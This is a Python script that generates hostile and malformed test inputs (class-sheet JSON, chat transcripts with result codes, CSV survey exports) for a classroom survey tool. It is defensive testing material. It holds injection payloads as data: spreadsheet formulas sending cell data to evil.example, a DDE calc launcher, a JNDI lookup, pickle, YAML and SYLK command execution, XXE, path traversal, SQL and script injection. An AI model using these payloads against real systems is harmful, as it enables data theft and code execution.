"""Write the hostile and broken inputs that stand beside this file, the same bytes every time.

Run `python tests/hostile/make.py` after a change here; README.md says what the names mean.
"""

import base64
import bz2
import codecs
import csv
import io
import json
import pickle
import random
import struct
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

from kit.classroom.codes import encode
from kit.classroom.sheets import ALPHABET, FORMAT, Sheet, statement_ids, to_json

HERE = Path(__file__).parent
IDS = statement_ids()

# Whoever hands all this in, and one of the class whose place is tried for.
MARK = "h0st1"
SURVEY = "h0sth0st"
VICTIM = "c1ass"

HTML = '<img src=x onerror="window.hacked=1">'
SCRIPT = "<script>window.hacked=1</script>"
DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example/?"&A1,"4")'
RIGHT_TO_LEFT = "\u202e"
PERSON = "Åsa Öberg <asa.oberg@example.org>"


def rated(mark=MARK, when="1", role="student", seed=1):
    """Return a whole sheet, always the same."""
    dice = random.Random(seed)
    return Sheet(mark, when, role, bytes(dice.choices(range(1, 7), k=len(IDS))))


# Class sheets

WHOLE = to_json(rated())


def sheets():
    """Return files that say they are class sheets, or lie where one is looked for."""
    return {
        **torn(WHOLE),
        **documents(),
        **members(),
        **marks(),
        **rounds_and_roles(),
        **ratings(),
        **nested(),
        **encodings(),
        **strangers(),
        **rows_of_a_survey(),
        **valid_sheets(),
    }


def torn(whole):
    places = [0, 1, 2, 9, 17, 30, 42, 60, 90, 130, 300, 600, len(whole) - 12, len(whole) - 2]
    cut = {f"torn-at-{place:04}.json": whole[:place].encode() for place in places}
    return cut | {
        "torn-head-missing.json": whole[40:].encode(),
        "torn-middle-missing.json": whole.replace("voice-1", "voi").encode(),
        "torn-and-written-on.json": (whole[:300] + whole).encode(),
        "torn-to-zeros.json": whole[:500].encode() + bytes(500),
    }


def written(value):
    return json.dumps(value).encode()


def document(**changed):
    """Return a document in which members have another value, or with None, are missing."""
    made = {"kit": "class-sheet", "format": FORMAT, "sheets": [member()], **changed}
    return {key: value for key, value in made.items() if value is not ...}


def member(**changed):
    one = rated()
    made = {"mark": one.mark, "round": one.round, "role": one.role, "ratings": one.by_statement}
    return {key: value for key, value in {**made, **changed}.items() if value is not ...}


def documents():
    kits = {
        "missing": ...,
        "null": None,
        "number": 1,
        "list": ["class-sheet"],
        "of-answers": "answers",
        "of-a-ledger": "class-ledger",
        "in-upper-case": "CLASS-SHEET",
        "with-a-cyrillic-letter": "с" + "lass-sheet",
        "with-a-zero-width-space": "class\u200b-sheet",
        "with-nul": "class-sheet\0",
        "of-html": HTML,
    }
    formats = {
        "missing": ...,
        "null": None,
        "0": 0,
        "2": 2,
        "negative": -1,
        "true": True,
        "text": "1",
        "list": [1],
        "huge": 10**3000,
    }
    raw = {"1.0": "1.0", "1e400": "1e400", "nan": "NaN", "negative-zero": "-0"}
    raw |= {"infinity": "Infinity", "5000-digits": "9" * 5000, "hexadecimal": "0x1"}
    sheets_are = {
        "missing": ...,
        "null": None,
        "text": "h0st1",
        "object": {"0": member()},
        "empty": [],
        "null-inside": [None],
        "text-inside": [MARK],
        "list-inside": [[member()]],
        "one-whole-one-null": [member(), None],
        "of-two-people": [member(), member(mark="h0st2")],
        "the-same-twice": [member(), member()],
        "with-anothers": [member(), member(mark=VICTIM)],
        "a-thousand-empty": [{}] * 1000,
    }
    return {
        **{f"kit-{name}.json": written(document(kit=one)) for name, one in kits.items()},
        **{f"format-{name}.json": written(document(format=one)) for name, one in formats.items()},
        **{
            f"format-{name}.json": WHOLE.replace('"format": 1', f'"format": {one}').encode()
            for name, one in raw.items()
        },
        **{
            f"sheets-{name}.json": written(document(sheets=one)) for name, one in sheets_are.items()
        },
    }


def members():
    """Return documents with too much, too little, or the same thing twice."""
    extra = {
        "name": {"name": PERSON},
        "e-mail": {"e-mail": "asa.oberg@example.org"},
        "time": {"time": "2026-03-04T08:15:16+01:00"},
        "proto": {"__proto__": {"role": "politician"}},
        "constructor": {"constructor": {"prototype": {"hacked": True}}},
        "class": {"__class__": "os.system"},
        "html": {HTML: HTML},
        "empty": {"": None},
        "surrogate": {"\ud83d": "\ude00"},
    }
    made = {f"extra-{name}.json": document(sheets=[member(**one)]) for name, one in extra.items()}
    for name in ("name", "proto", "html"):
        made[f"extra-{name}-above.json"] = document(**extra[name])
    for name in ("mark", "round", "role", "ratings"):
        made[f"missing-{name}.json"] = document(sheets=[member(**{name: ...})])
    made["key-in-upper-case.json"] = document(sheets=[member(mark=..., MARK=MARK)])
    made["key-with-zero-width-space.json"] = document(
        sheets=[member(mark=..., **{"mark\u200b": MARK})]
    )
    twice = {
        "kit": ('"kit": "class-sheet"', '"kit": "class-sheet", "kit": "class-sheet"'),
        "mark": (f'"mark": "{MARK}"', f'"mark": "{VICTIM}", "mark": "{MARK}"'),
        "statement": ('"breadth-1"', '"breadth-1": 1, "breadth-1"'),
        "ratings": ('"ratings"', '"ratings": {}, "ratings"'),
        "mark-escaped": (f'"mark": "{MARK}"', f'"mark": "{MARK}", "\\u006dark": "{VICTIM}"'),
    }
    return {name: written(one) for name, one in made.items()} | {
        f"twice-{name}.json": WHOLE.replace(*one, 1).encode() for name, one in twice.items()
    }


def marks():
    wrong = {
        "missing-value": None,
        "empty": "",
        "number": 12345,
        "list": [MARK],
        "object": {"mark": MARK},
        "true": True,
        "anothers": VICTIM,
        "path-up": "../..",
        "path-windows": "..\\..",
        "path-absolute": "/etc/",
        "path-drive": "C:\\nul",
        "path-after-mark": f"{MARK}/../{VICTIM}",
        "short": MARK[:4],
        "long": MARK + "0",
        "very-long": MARK * 3000,
        "upper-case": MARK.upper(),
        "letter-nobody-reads": "h0sti",
        "line-break": f"{MARK}\n",
        "blank": f" {MARK}",
        "nul": f"{MARK}\0",
        "half-a-character": "h0st\ud83d",
        "right-to-left": f"{RIGHT_TO_LEFT}{MARK}",
        "cyrillic": "h0s\u0442" + "1",
        "full-width": "".join(chr(ord(one) + 0xFEE0) for one in MARK),
        "arabic-digits": "h\u0660st\u0661",
        "combining": "h0st1\u0301",
        "html": HTML,
        "formula": DDE,
        "format-braces": "{0.__class__}",
        "percent-format": "%s%n%x",
        "shell": "$(id)`id`",
        "lookup": "${jndi:ldap://evil.example/a}",
        "template": "{{7*7}}",
        "sql": "'; drop table sheets; --",
        "of-a-row": "0ther0ne-1",
    }
    return {
        f"mark-{name}.json": written(document(sheets=[member(mark=one)]))
        for name, one in wrong.items()
    }


def rounds_and_roles():
    rounds = {
        "0": "0",
        "4": "4",
        "another": "2",
        "number": 1,
        "null": None,
        "true": True,
        "list": ["1"],
        "upper-case": "THEN",
        "path": "1/../../evil",
        "html": SCRIPT,
        "arabic-digit": "\u0661",
        "line-break": "1\n",
    }
    roles = {
        "king": "king",
        "number": 0,
        "true": True,
        "list": ["student"],
        "object": {"role": "student"},
        "empty": "",
        "name-of-a-person": PERSON,
        "upper-case": "STUDENT",
        "html": HTML,
        "formula": DDE,
        "very-long": "student" * 2500,
        "right-to-left": f"{RIGHT_TO_LEFT}tneduts",
    }
    return {
        **{
            f"round-{name}.json": written(document(sheets=[member(round=one)]))
            for name, one in rounds.items()
        },
        **{
            f"role-{name}.json": written(document(sheets=[member(role=one)]))
            for name, one in roles.items()
        },
    }


def ratings():
    wrong = {
        "null": None,
        "list": [4] * len(IDS),
        "text": "4" * len(IDS),
        "unknown-statement": {"of-another-course-1": 4},
        "one-statement-too-many": {**rated().by_statement, "breadth-4": 4},
        "proto-as-statement": {"__proto__": 4},
        "html-as-statement": {HTML: 4},
        "name-as-statement": {PERSON: 4},
        "statement-in-upper-case": {"BREADTH-1": 4},
        "a-thousand-statements": {f"x{number}": 4 for number in range(1000)},
    }
    rating = {
        "0": 0,
        "6": 6,
        "negative": -1,
        "half": 3.5,
        "true": True,
        "false": False,
        "null": None,
        "text-3": "3",
        "dont-know-in-upper-case": "DONT-KNOW",
        "dont-know-with-underscore": "dont_know",
        "empty-text": "",
        "list": [4],
        "object": {"rating": 4},
        "huge": 10**3000,
        "very-long-text": "4" * 15_000,
        "html": SCRIPT,
        "formula": "=1+3",
        "formula-plus": "+4",
        "right-to-left": f"{RIGHT_TO_LEFT}4",
        "half-a-character": "\udc00",
        "name-of-a-person": PERSON,
    }
    raw = {
        "1.0": "1.0",
        "1e0": "1e0",
        "1e400": "1e400",
        "negative-1e400": "-1e400",
        "nan": "NaN",
        "infinity": "Infinity",
        "negative-infinity": "-Infinity",
        "negative-zero": "-0",
        "negative-zero-point-zero": "-0.0",
        "leading-zero": "04",
        "plus": "+4",
        "5000-digits": "4" * 5000,
        "arabic-digit": "\u0664",
        "undefined": "undefined",
        "expression": "2+2",
    }
    return {
        **{
            f"ratings-{name}.json": written(document(sheets=[member(ratings=one)]))
            for name, one in wrong.items()
        },
        **{
            f"rating-{name}.json": written(document(sheets=[member(ratings={"breadth-1": one})]))
            for name, one in rating.items()
        },
        **{
            f"rating-{name}.json": written(
                document(sheets=[member(ratings={"breadth-1": "RATING"})])
            ).replace(b'"RATING"', one.encode())
            for name, one in raw.items()
        },
    }


def nested():
    inside = written(document(sheets=[member(ratings="HERE")]))
    return {
        "nested-lists-9000-deep.json": b"[" * 9000,
        "nested-lists-100000-deep.json": b"[" * 100_000,
        "nested-lists-closed-again.json": b"[" * 9000 + b"]" * 9000,
        "nested-objects-3000-deep.json": b'{"a":' * 3000,
        "nested-objects-closed-again.json": b'{"a":' * 2500 + b"1" + b"}" * 2500,
        "nested-in-ratings.json": inside.replace(b'"HERE"', b"[" * 4000 + b"]" * 4000),
        "nested-as-kit.json": b'{"kit":' + b"[" * 4000 + b"]" * 4000 + b',"format":1,"sheets":[]}',
        "nested-seven-deep.json": inside.replace(b'"HERE"', b'{"breadth-1": [[[[4]]]]}'),
        "wide-lists.json": b'{"kit":"class-sheet","format":1,"sheets":[' + b"[]," * 6000 + b"[]]}",
        "wide-objects.json": b'{"kit":"class-sheet","format":1,"sheets":['
        + b"{}," * 6000
        + b"{}]}",
        "wide-keys.json": b"{" + b",".join(b'"%d":0' % number for number in range(1700)) + b"}",
        "large-of-blanks.json": WHOLE.encode() + b" " * 25_000,
    }


def encodings():
    swedish = json.dumps(document(sheets=[member(namn="Åsa")]), ensure_ascii=False)
    plain = WHOLE.encode()
    return {
        "encoding-utf-16.json": codecs.BOM_UTF16_LE + WHOLE.encode("utf-16-le"),
        "encoding-utf-16-big-endian.json": codecs.BOM_UTF16_BE + WHOLE.encode("utf-16-be"),
        "encoding-utf-16-without-mark.json": WHOLE.encode("utf-16-le"),
        "encoding-utf-32.json": codecs.BOM_UTF32_LE + WHOLE.encode("utf-32-le"),
        "encoding-utf-7.json": swedish.encode("utf-7"),
        "encoding-latin-1.json": swedish.encode("latin-1"),
        "encoding-two-marks.json": codecs.BOM_UTF8 * 2 + plain,
        "encoding-mark-in-the-middle.json": plain[:50] + codecs.BOM_UTF8 + plain[50:],
        "encoding-half-a-character.json": plain.replace(b"student", b"\xed\xa0\x80"),
        "encoding-overlong.json": plain.replace(b"student", b"\xc0\xafstudent"),
        "encoding-cut-in-a-character.json": plain[:-2] + "å".encode()[:1],
        "encoding-nul-between.json": plain[:60] + b"\0" + plain[60:],
        "encoding-nuls-alone.json": bytes(4096),
        "encoding-ebcdic.json": WHOLE.encode("cp500"),
        "encoding-base64.json": base64.b64encode(plain),
        "encoding-gzip.json": gzipped(plain),
        "encoding-bzip2.json": bz2.compress(plain),
        "encoding-every-byte.json": bytes(range(256)),
    }


def gzipped(content):
    """Return a gzip file, not compressed: so that it has the same bytes everywhere."""
    size = len(content)
    stored = struct.pack("<BHH", 1, size, 0xFFFF ^ size) + content
    sums = struct.pack("<II", zlib.crc32(content), size)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + stored + sums


def strangers():
    """Return what is no JSON, or another's."""
    pickled = pickle.dumps([MARK, {"breadth-1": 4}], protocol=2)
    texts = {
        "null": "null",
        "number": "4",
        "text": '"class-sheet"',
        "list": "[]",
        "object": "{}",
        "answers": written({"kit": "answers", "format": 1, "ratings": {"breadth-1": 4}}).decode(),
        "notebook": written({"cells": [], "metadata": {}, "nbformat": 4}).decode(),
        "html-page": f"<!doctype html><html><body>{HTML}{SCRIPT}</body></html>",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="hacked=1">{SCRIPT}</svg>',
        "python": "__import__('os').system('touch hacked')\n",
        "javascript": "window.hacked = 1;\n",
        "jsonp": f"callback({WHOLE.strip()});\n",
        "json-behind-a-guard": f")]}}',\n{WHOLE}",
        "json-lines": written(member()).decode() + "\n" + written(member()).decode(),
        "json-with-comments": WHOLE.replace('"kit"', '// the kit\n"kit"', 1),
        "json-with-single-quotes": WHOLE.replace('"', "'"),
        "json-with-a-last-comma": WHOLE.replace("}\n", "},\n"),
        "json-twice": WHOLE + WHOLE,
        "json-and-more": WHOLE + SCRIPT,
        "yaml": "!!python/object/apply:os.system ['touch hacked']\n",
        "toml": 'kit = "class-sheet"\nformat = 1\n',
        "shell-script": "#!/bin/sh\ntouch hacked\n",
        "batch-file": "@echo off\r\ncalc.exe\r\n",
        "formulas": f"{DDE}\n{LINK}\n",
        "escape-codes": "\x1b[2J\x1b]0;hacked\x07\x1b[31m",
        "bell-and-backspace": "\x07\x08" * 100,
        "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
        "line-separators": "\u2028\u2029" * 50,
        "right-to-left": f"{RIGHT_TO_LEFT}{WHOLE[::-1]}",
        "letters-with-hundreds-of-accents": ("Z" + "\u0351" * 300) * 10,
    }
    return {
        **{f"stranger-{name}.json": one.encode() for name, one in texts.items()},
        "stranger-pickle.json": b"cos\nsystem\n(S'touch hacked'\ntR." + pickled,
        "stranger-pdf.json": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(alert())>>>>\n",
        "stranger-program.json": b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(100),
        "stranger-picture.json": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(64),
        "stranger-zip.json": zipped({"sheet-h0st1-1.json": WHOLE}),
        "stranger-old-office.json": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "stranger-random.json": random.Random(1).randbytes(2000),
    }


def rows_of_a_survey():
    """Return files of rows; what is right in them is of another spreadsheet than the file says."""
    other = "0ther0ne"
    rows = {
        "of-another-spreadsheet": [f"{other}-1", f"{other}-2"],
        "of-two-spreadsheets": [f"{SURVEY}-1", f"{other}-1"],
        "and-a-senders": [f"{SURVEY}-1", MARK],
        "and-anothers": [f"{SURVEY}-1", VICTIM],
        "twice": [f"{SURVEY}-1", f"{SURVEY}-1"],
        "zero": [f"{SURVEY}-0"],
        "negative": [f"{SURVEY}--1"],
        "leading-zero": [f"{SURVEY}-01"],
        "seven-digits": [f"{SURVEY}-1000000"],
        "without-number": [f"{SURVEY}-"],
        "arabic-digit": [f"{SURVEY}-\u0661"],
        "path": [f"{SURVEY}-1/../../evil"],
    }
    return {
        f"rows-{name}.json": written(
            document(sheets=[member(mark=one, ratings={"breadth-1": 4}) for one in found])
        )
        for name, found in rows.items()
    }


def valid_sheets():
    shuffled = {"sheets": [dict(reversed(member().items()))], "format": 1, "kit": "class-sheet"}
    return {
        "valid-with-a-byte-order-mark.json": codecs.BOM_UTF8 + WHOLE.encode(),
        "valid-with-line-endings-of-windows.json": WHOLE.replace("\n", "\r\n").encode(),
        "valid-in-one-line.json": written(document()),
        "valid-in-another-order.json": written(shuffled),
        "valid-with-escaped-letters.json": WHOLE.replace("mark", "\\u006dark").encode(),
        "valid-without-an-answer.json": written(document(sheets=[member(ratings={})])),
        "valid-filled-up-with-blanks.json": WHOLE.encode().ljust(19_000),
    }


# Result codes

CODE = encode(rated())
OTHER = encode(rated("h0st2", seed=2))


def codes():
    """Return transcripts of chats, one of their senders called h0st1."""
    return {f"{name}.txt": one.encode() for name, one in chats().items()} | {
        "quiet-bytes.txt": bytes(range(256)),
        "valid-in-the-encoding-of-windows.txt": f"Åsa:\x80 {CODE}\r\n".encode("latin-1"),
        "valid-among-nuls.txt": b"\0" * 50 + CODE.encode() + b"\0" * 50,
    }


def chats():
    return {**damaged(), **disguised(), **impossible(), **quiet(), **valid_codes()}


def said(text):
    return f"Anna 10:41\nmin kod: {text}\nYlva 10:42\nTack!\n"


def sealed(version, number):
    """Return a code with the right checksum, whatever it says, by long division."""
    whole = (version << 149 | number) << 16
    rest = whole
    for place in reversed(range(16, 170)):
        if rest >> place & 1:
            rest ^= 0x11021 << (place - 16)
    plain = "".join(ALPHABET[(whole | rest) >> 5 * at & 31] for at in reversed(range(34)))
    return "-".join(plain.upper()[at : at + 5] for at in range(0, 34, 5))


def damaged():
    groups = CODE.split("-")
    plain = CODE.replace("-", "")
    at = next(place for place in range(7, 30) if plain[place] != plain[place + 1])
    wrong = {
        "one-character-wrong": CODE[:9] + ("7" if CODE[9] != "7" else "8") + CODE[10:],
        "first-character-wrong": f"K{CODE[1:]}",
        "last-character-wrong": CODE[:-1] + ("7" if CODE[-1] != "7" else "8"),
        "one-character-lost": CODE[:9] + CODE[10:],
        "one-character-too-many": f"{CODE[:9]}7{CODE[9:]}",
        "two-swapped": plain[:at] + plain[at + 1] + plain[at] + plain[at + 2 :],
        "letter-nobody-writes": f"{CODE[:9]}U{CODE[10:]}",
        "one-group-lost": "-".join(groups[:2] + groups[3:]),
        "last-group-lost": "-".join(groups[:-1]),
        "end-lost": CODE[:17],
        "one-group-twice": "-".join([*groups[:3], *groups[2:]]),
        "groups-reversed": "-".join([groups[0], *groups[-2:0:-1], groups[-1]]),
        "groups-swapped": "-".join([groups[0], groups[2], groups[1], *groups[3:]]),
        "two-mixed": CODE[:20] + OTHER[20:],
        "checksum-of-another": CODE[:-4] + OTHER[-4:],
        "zeros-at-the-end": f"{CODE[:-4]}0000",
        "in-two-lines-one-lost": f"{CODE[:17]}\n> {CODE[19:]}",
    }
    spoilt = wrong["one-character-wrong"]
    around = {
        "in-lower-case": spoilt.lower(),
        "with-blanks": spoilt.replace("-", " "),
        "without-hyphens": spoilt.replace("-", ""),
        "with-dashes": spoilt.replace("-", "–"),
        "in-html": f"<b>{spoilt}</b>",
        "in-a-script": f"<script>{spoilt}</script>",
        "in-an-image": f"{HTML}{spoilt}",
        "in-markdown": f"**{spoilt}** [click](javascript:alert(1))",
        "in-backticks": f"```\n{spoilt}\n```",
        "in-a-formula": f'="{spoilt}"',
        "behind-an-escape-code": f"\x1b[31m{spoilt}\x1b[0m",
        "behind-right-to-left": f"{RIGHT_TO_LEFT}{spoilt}",
        "quoted-ten-times": "".join(f"{'> ' * depth}{spoilt}\n" for depth in range(10)),
        "of-a-hundred-people": "\n".join(
            f"{CODE[:9]}U{number:03}{CODE[13:]}" for number in range(99)
        ),
        "of-three-hundred-people": "\n".join(
            f"{CODE[:9]}U{number:03}{CODE[13:]}" for number in range(300)
        ),
    }
    return {f"damaged-{name}": said(one) for name, one in (wrong | around).items()}


def disguised():
    """Return codes in which a character only looks like the right one, and is another."""
    changed = {
        "roman-numeral-first": "\u2169" + CODE[1:],
        "accent-on-a-letter": f"{CODE[:3]}\u0301{CODE[3:]}",
        "emoji-within": f"{CODE[:20]}😀{CODE[21:]}",
        "arabic-digits-at-the-end": f"{CODE[:-4]}\u0661\u0662\u0663\u0664",
        "stars-at-the-end": f"{CODE[:-4]}****",
        "bold-mathematical-end": f"{CODE[:-4]}𝐀𝐁𝟎𝟏",
    }
    return {f"disguised-{name}": said(one) for name, one in changed.items()}


def impossible():
    most = 2**25 * 4 * 6 * 7**42
    return {
        "version-newer-y": said(sealed(30, 12345)),
        "version-newer-z": said(sealed(31, 2**149 - 12345**10)),
        "version-older-w": said(sealed(28, 2**140 + 12345)),
        "version-0": said(sealed(0, 2**140 + 12345)),
        "impossible-mark-and-right-checksum": said(sealed(29, most)),
        "impossible-fields-and-right-checksum": said(sealed(29, 2**149 - 12345**10)),
        "impossible-x-and-zeros": "x0" * 4500,
        "impossible-product-key": said("AB1CD-EF2GH-JK3MN-PQ4RS-TV5WX"),
    }


def quiet():
    dice = random.Random(2)
    token = base64.b64encode(dice.randbytes(300)).decode()
    return {
        f"quiet-{name}": text
        for name, text in {
            "empty": "",
            "blank-lines": "\n \t\r\n" * 500,
            "prose": said("hej! Jag tar det sedan, exakt sex extra saker måste bli klara först xD"),
            "pattern-of-a-code": said("XXXXX-XXXXX-XXXXX-XXXXX-XXXXX-XXXXX-XXXX"),
            "x-9000-times": "X" * 9000,
            "x-apart": "X - " * 2500,
            "hyphens": "-" * 9000,
            "dashes": "–—" * 2000,
            "angle-brackets": "<" * 5000 + ">" * 5000,
            "tags-unclosed": "<a " * 3000,
            "ampersands": "&" * 9000,
            "entities": "&#x110000;&#xD800;&#0;&nosuch;&#99999999;" * 100,
            "quotes": "\"'`" * 3000,
            "links": "https://region.example/motet?id=4fk29x8q7z1m3n5p6r8t0v2w4x6y8z0a1\n" * 20,
            "link-to-a-meeting": "https://x.example/j/81234567890?pwd=k3j4h5k6j7h8g9f0d1s2a3q4w5e6r7t8",
            "link-of-javascript": "javascript:alert(document.cookie)//https://x.example",
            "uuid": "550e8400-e29b-41d4-a716-446655440000\n" * 20,
            "fingerprints": "9fceb02d0ae598e95dc970b74767f19372d61af8\n" * 20,
            "base64": token,
            "data-link": f"data:text/html;base64,{token}",
            "mail-headers": "Message-ID: <AM9PR07MB7234F3A9C2D1E5B8A6@AM9PR07MB7234.x.example>\n",
            "phone-numbers": "Ring 070-123 45 67 eller +46 8 123 456 78.\n" * 20,
            "bank-account": "IBAN SE45 5000 0000 0583 9825 7466, OCR 7350012345678.\n",
            "identity-numbers": "19811218-9876 och 232100-0016\n" * 20,
            "number-plates": "ABC123, DEF45G, XYZ789 och XAB12C.\n" * 20,
            "times": "Kl 0800 1030 1200 1315 1500 fika den 2026-03-12T10:41:58.123Z.\n",
            "addresses-of-computers": "2001:db8:85a3::8a2e:370:7334 00:1B:44:11:3A:B7 192.0.2.7\n",
            "html-page": f"<!doctype html><html><body>{HTML}{SCRIPT}</body></html>",
            "formulas": f"{DDE}\n{LINK}\n@SUM(1)\n+1\n-1\n",
            "escape-codes": "\x1b[2J\x1b]0;hacked\x07" * 50,
            "right-to-left": f"{RIGHT_TO_LEFT}edok nim\u202c\u2066\u2069" * 50,
            "zero-width": "\u200b\u200c\u200d\ufeff" * 500,
            "accents": ("Z" + "\u0351" * 200) * 10,
            "emoji": "👩‍👩‍👧‍👦😀👍🏽" * 100,
            "letter-that-grows": "\ufdfa" * 2000,
            "sheet-as-text": to_json(rated("h0st2")),
            "template-braces": "{0.__class__.__init__.__globals__} {{7*7}} ${7*7} %s%n",
            "words-of-five-letters": "There which about after where these words would never make "
            * 20,
        }.items()
    }


def valid_codes():
    cyrillic = str.maketrans("ABCEHKMPTX", "АВСЕНКМРТХ")
    greek = str.maketrans("ABEHKMNPTXZ", "ΑΒΕΗΚΜΝΡΤΧΖ")
    hidden = f"priset är <x kr\nAnna: {CODE}\nYlva: svaret -> ja"
    return {
        f"valid-{name}": text
        for name, text in {
            "in-html": f"<p class=x1>Anna: <b>{CODE}</b></p>{SCRIPT}",
            "in-a-script": f"<script>window.hacked='{CODE}'</script>",
            "in-an-attribute": f'<a title="{CODE}" href="https://x.example">min kod</a>',
            "in-broken-html": f"<div <b <<i>>{CODE}</b </x",
            "after-a-sign-that-is-no-tag": hidden,
            "in-a-comment": f"<!-- {CODE} -->",
            "in-markdown": f"| Anna | **{CODE}** | ![x](javascript:alert(1)) |",
            "in-backticks": f"```\n{CODE}\n```",
            "in-a-formula": f'=HYPERLINK("https://x.example";"{CODE}")',
            "behind-escape-codes": f"\x1b[31m {CODE}\x1b[0m",
            "behind-right-to-left": f"{RIGHT_TO_LEFT} {CODE}\u202c",
            "zero-width-between": "\u200b".join(CODE),
            "full-width": "".join(chr(ord(one) + 0xFEE0) for one in CODE),
            "in-entities": "".join(f"&#{ord(one)};" for one in CODE),
            "among-x": f"{'X' * 4000}\n.{CODE}. {'X' * 4000}",
            "among-hyphens": f"{'-' * 4000} {CODE} {'-' * 4000}",
            "in-a-quoting-mail": f"> > {CODE[:18]}=\n{CODE[18:]}\n",
            "twice": f"{CODE}\n> {CODE}\n",
            "in-lower-case-with-l-for-1": CODE.lower().replace("1", "l").replace("0", "o"),
            "in-cyrillic-letters": CODE.translate(cyrillic),
            "in-greek-letters": CODE.translate(greek),
            "in-a-word": f"minkod{CODE}tack",
        }.items()
    }


# Spreadsheets


def surveys():
    """Return what a survey tool may export, or somebody may send instead."""
    return {**csv_files(), **no_tables(), **workbooks(), **archives()}


HEADER = ["Namn", "role", "round", *IDS]


def person(*changed, name="Anna", level=4):
    """Return a person's row, in which the answers begin with these."""
    return [name, "student", "1", *[*changed, *[level] * len(IDS)][: len(IDS)]]


def table(*rows, delimiter=";", header=None):
    file = io.StringIO()
    csv.writer(file, delimiter=delimiter).writerows([header or HEADER, *rows])
    return file.getvalue()


FORMULAS = {
    "equals": "=1+3",
    "plus": "+1+3",
    "minus": "-2+6",
    "at": "@SUM(1+3)",
    "tab": "\t=1+3",
    "carriage-return": "\r=1+3",
    "dde": DDE,
    "link": LINK,
    "web": '=WEBSERVICE("https://evil.example/?"&A1)',
    "full-width-equals": "＝1+3",
    "quoted": "'=1+3",
}
CELLS = {
    "html": HTML,
    "script": SCRIPT,
    "level-6": "6",
    "level-0": "0",
    "level-half": "3,5",
    "negative": "-4",
    "nan": "NaN",
    "infinity": "1e400",
    "contradiction": "4 – saknas",
    "two-levels": "4 5",
    "date": "2026-04-04",
    "truth": "TRUE",
    "arabic-digit": "\u0664",
    "superscript": "4⁴",
    "roman-numeral": "IV",
    "many-brackets": "(" * 900 + "4",
    "many-digits": "4" * 5000,
    "letter-that-grows": "\ufdfa" * 1000,
    "accents": "4" + "\u0351" * 900,
    "name-of-a-person": PERSON,
    "path": "../../../etc/passwd",
    "template-braces": "{0.__class__}{value}%s",
    "lines": "4\n5\r\n6",
}
HARMLESS_HEADERS = {
    "html": HTML,
    "formula": DDE,
    "name-of-a-person": PERSON,
    "proto": "__proto__",
    "path": "../../evil",
    "right-to-left": f"{RIGHT_TO_LEFT}1.1",
    "very-long": "Läge och resurser, " * 50,
    "many-brackets": "[" * 900,
    "letter-that-grows": "\ufdfa" * 900,
}


def csv_files():
    sound = table(person(), person(level=2))
    rows = sound.splitlines(keepends=True)
    made = {
        **{f"mixed-formula-{name}": table(person(one)) for name, one in FORMULAS.items()},
        **{f"mixed-cell-{name}": table(person(one)) for name, one in CELLS.items()},
        **{
            f"valid-header-{name}": table([one, *person()], header=[one, *HEADER])
            for name, one in HARMLESS_HEADERS.items()
        },
        "valid-cell-half-a-quote": table(person('4"')),
        "valid-cell-right-to-left": table(person(f"{RIGHT_TO_LEFT}4")),
        "mixed-headers-twice": table([*person(), "1", "1"], header=[*HEADER, "1.1", "breadth-1"]),
        "mixed-role-html": table(["", HTML, "1", *[4] * 42]),
        "mixed-role-name-of-a-person": table(["", PERSON, "1", *[4] * 42]),
        "mixed-round-html": table(person(), ["", "", SCRIPT, *[4] * 42]),
        "mixed-round-huge": table(person(), ["", "", "9" * 5000, *[4] * 42]),
        "mixed-person-without-an-answer": table(person(), ["Åsa", "", "", *[""] * 42]),
        "mixed-damaged-code": f"Kod\r\n{CODE}\r\n{CODE[:9]}U{CODE[10:]}\r\n",
        "mixed-row-torn": sound[: len(rows[0]) + len(rows[1]) + 20].replace("2;2", "bra;2"),
        "damaged-code-alone": f"Kod\r\n{CODE[:9]}U{CODE[10:]}\r\n",
        "quiet-header-alone": rows[0],
        "quiet-statement-alone": "1.1",
        "empty": "",
        "blank": " \r\n;;;\r\n" * 50,
        "no-statements": table(["Anna", "4"], header=["Namn", "Betyg"]),
        "header-below-the-first-twenty-rows": "titel\r\n" * 25 + sound,
        "quote-never-closed": rows[0] + '"Anna' + sound,
        "quote-in-the-header": f'"{sound}',
        "quote-closed-too-early": rows[0] + '"An"na;4;4\r\n' + rows[1],
        "quotes-9000": '"' * 9001,
        "delimiters-9000": ";,\t" * 3000 + "x",
        "too-many-columns": ";" * 600 + "4",
        "too-many-rows": "1.1\r\n" + "4\n" * 10_500,
        "remark-in-a-far-off-column": rows[0] + ";" * 600 + "x\r\n",
        "delimiter-said-and-another-used": "sep=,\r\n" + sound,
        "delimiter-said-alone": "sep=;\r\n",
        "html-page": f"<html><table><tr><td>1.1</td></tr><tr><td>{HTML}4</td></tr></table></html>",
        "xml-spreadsheet-of-2003": '<?xml version="1.0"?><Workbook><Worksheet/></Workbook>',
        "json": to_json(rated("h0st2")),
        "rich-text": "{\\rtf1\\ansi 4}",
        "symbolic-link-file": 'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("CALC.EXE")\r\nE\r\n',
        "data-interchange-file": 'TABLE\r\n0,1\r\n"EXCEL"\r\nDATA\r\n0,0\r\n""\r\n',
        "markdown-table": "| 1.1 | 1.2 |\n|---|---|\n| 4 | 2 |\n",
        "escape-codes": "\x1b[2J\x1b[31m;\x07\r\n",
        "valid-delimiter-said": "sep=;\r\n" + sound,
        "valid-tabs": table(person(), delimiter="\t"),
        "valid-old-line-endings": sound.replace("\r\n", "\r"),
        "valid-remark-long": table([*person(), "x" * 18_000], header=[*HEADER, "Övrigt"]),
        "valid-remark-of-everything": table(
            [*person(), "".join([*FORMULAS.values(), *CELLS.values()])], header=[*HEADER, "Övrigt"]
        ),
        "valid-blank-rows-between": table(person(), *[[]] * 900, person(level=2)),
        "valid-columns-blank-to-the-right": sound.replace("\r\n", ";" * 900 + "\r\n"),
        "valid-byte-order-mark": f"\ufeff{sound}",
